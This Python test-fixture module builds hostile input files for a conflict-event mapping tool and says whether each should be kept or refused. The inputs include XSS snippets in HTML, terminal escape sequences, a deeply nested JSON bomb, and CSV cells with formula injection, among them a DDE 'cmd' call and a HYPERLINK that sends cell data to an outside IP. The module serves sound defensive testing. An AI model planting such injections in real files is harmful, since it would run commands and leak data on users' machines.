"""A corpus of hostile input: the files that broke conflictmap once (issue 21) and their
kin. Each is a file as a user would hand it over, with what must come of it: kept (its
data stored, nothing else changed) or refused (one error naming the file, the next file
still read, nothing stored before lost).

The CLI tests (``tests/test_hostile.py``), the app tests and the property tests read it;
the files are built when asked for, so the big ones cost nothing until then.
"""

from __future__ import annotations

import io
import json
import zipfile
from collections.abc import Callable
from dataclasses import dataclass


def _report(town: str) -> str:
    return f"Russian forces shelled {town} on Monday, killing two people. Officials said the strike hit a school."


NESTED_JSON = '{"type": "FeatureCollection", "features": ' + "[" * 100_000 + "]" * 100_000 + "}"
ACLED_HEADER = "event_id_cnty,event_date,event_type,latitude,longitude,location,actor1,notes,fatalities\n"


@dataclass(frozen=True)
class Hostile:
    """One file of the corpus. ``reader``: the command that reads it (``articles``: ingest,
    ``events``: import, ``places``: gazetteer add --file, ``geonames``: import-geonames).
    ``kept``: how many records must be stored from it (0: the file is refused). ``says``: a
    fragment of the message the user must see (the error, or the bad row named)."""

    name: str
    reader: str
    build: Callable[[], bytes]
    kept: int
    says: str = ""

    @property
    def data(self) -> bytes:
        return self.build()


def _page_in_divs(depth: int) -> bytes:
    return ("<!doctype html><html><head><title>Kharkiv</title></head><body>" + "<div class='w'>" * depth
            + f"<p>{_report('Kharkiv')}</p><p>Rescuers worked through the night.</p>" + "</div>" * depth
            + "</body></html>").encode()  # fmt: skip


def _geojson(features: list[tuple[object, list[float] | dict]]) -> bytes:
    out = []
    for fid, where in features:
        geometry = where if isinstance(where, dict) else {"type": "Point", "coordinates": where}
        out.append({"type": "Feature", "properties": {"fid": fid, "date": "2022-03-10", "name": "Camp",
                                                      "description": "Shelling was reported."},
                    "geometry": geometry})  # fmt: skip
    return json.dumps({"type": "FeatureCollection", "features": out}).encode()


FIJI = {"type": "Polygon", "coordinates": [[[179, -17], [-179, -17], [-179, -16], [179, -16], [179, -17]]]}


def _geonames_zip(line: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("UA.txt", line)
    return buffer.getvalue()


CORPUS: tuple[Hostile, ...] = (
    # -- articles ------------------------------------------------------------------------
    Hostile("deep-divs.html", "articles", lambda: _page_in_divs(50_000), 1),
    Hostile(
        "script-title.html",
        "articles",
        lambda: (
            "<html><head><title><script>alert(1)</script>Kharkiv</title></head><body><article>"
            f"<p>{_report('Izium')}</p><img src=x onerror=alert(1)></article></body></html>"
        ).encode(),
        1,
    ),  # fmt: skip
    Hostile(
        "escapes.txt", "articles", lambda: f"\x1b]0;owned\x07\x1b[2J{_report('Kupiansk')}\x9b".encode(), 1
    ),
    Hostile("utf16.txt", "articles", lambda: _report("Chuhuiv").encode("utf-16-le"), 1),
    Hostile("only-spaces.txt", "articles", lambda: "\u0085\u2028 \t\u3000\n".encode(), 0, "no text"),
    Hostile("binary.txt", "articles", lambda: bytes(range(256)) * 40, 0, "looks binary"),
    Hostile("empty.html", "articles", lambda: b"<html><body><div></div></body></html>", 0, "no article text"),
    # -- event datasets ------------------------------------------------------------------
    Hostile("deep.geojson", "events", lambda: NESTED_JSON.encode(), 0, "nested too deeply"),
    Hostile(
        "tolls.csv",
        "events",
        lambda: (
            ACLED_HEADER + "E1,2022-03-01,Battles,50,30,Kyiv,,,99999999999999999999\n"
            "E2,2022-03-01,Battles,50.1,30,Kyiv,,,1e308\nE3,2022-03-01,Battles,50.2,30,Kyiv,,,3\n"
        ).encode(),
        1,
        "not a plausible number of deaths",
    ),  # fmt: skip
    Hostile(
        "formulas.csv",
        "events",
        lambda: (
            ACLED_HEADER + "F1,2022-03-01,Riots,50,30,@SUM(1+1),+cmd|' /C calc'!A0,"
            '"=HYPERLINK(""http://198.51.100.7/""&A1,""x"")",0\n'
        ).encode(),
        1,
    ),  # fmt: skip
    Hostile("qgis-a.geojson", "events", lambda: _geojson([(1, [30.5, 50.4]), (2, [36.2, 49.9])]), 2),
    Hostile("qgis-b.geojson", "events", lambda: _geojson([(1, [24.0, 49.8])]), 1),
    Hostile(
        "repeated-id.geojson",
        "events",
        lambda: _geojson([(7, [30.5, 50.4]), (7, [36.2, 49.9])]),
        2,
        "repeated",
    ),
    Hostile("fiji.geojson", "events", lambda: _geojson([(1, FIJI)]), 1),
    Hostile("not-json.geojson", "events", lambda: b"{not json", 0, "is not JSON"),
    Hostile("empty.csv", "events", lambda: b"", 0, "is empty"),
    # -- places the user adds ------------------------------------------------------------
    Hostile("deep-places.geojson", "places", lambda: NESTED_JSON.encode(), 0, "nested too deeply"),
    Hostile("fiji-places.geojson", "places", lambda: _geojson([(1, FIJI)]), 1),
    # -- GeoNames country files ----------------------------------------------------------
    Hostile("UA.zip", "geonames", lambda: _geonames_zip(b"7" * (3 * 2**20)), 0, "longer than 1 MB"),
)


def read_by(reader: str) -> list[Hostile]:
    return [case for case in CORPUS if case.reader == reader]


# Files an export must not replace without --force: none of them bears the export's mark.
EXPORT_TARGETS: tuple[tuple[str, bytes], ...] = (
    ("mine.geojson", json.dumps({"type": "FeatureCollection", "features": []}).encode()),
    ("acled-download.csv", (ACLED_HEADER + "UKR1,2022-03-01,Battles,50,30,Kyiv,,,0\n").encode()),
    ("notes.html", b"<!DOCTYPE html><html><body>My own notes</body></html>"),
    ("table.parquet", b"PAR1" + bytes(64) + b"PAR1"),
)
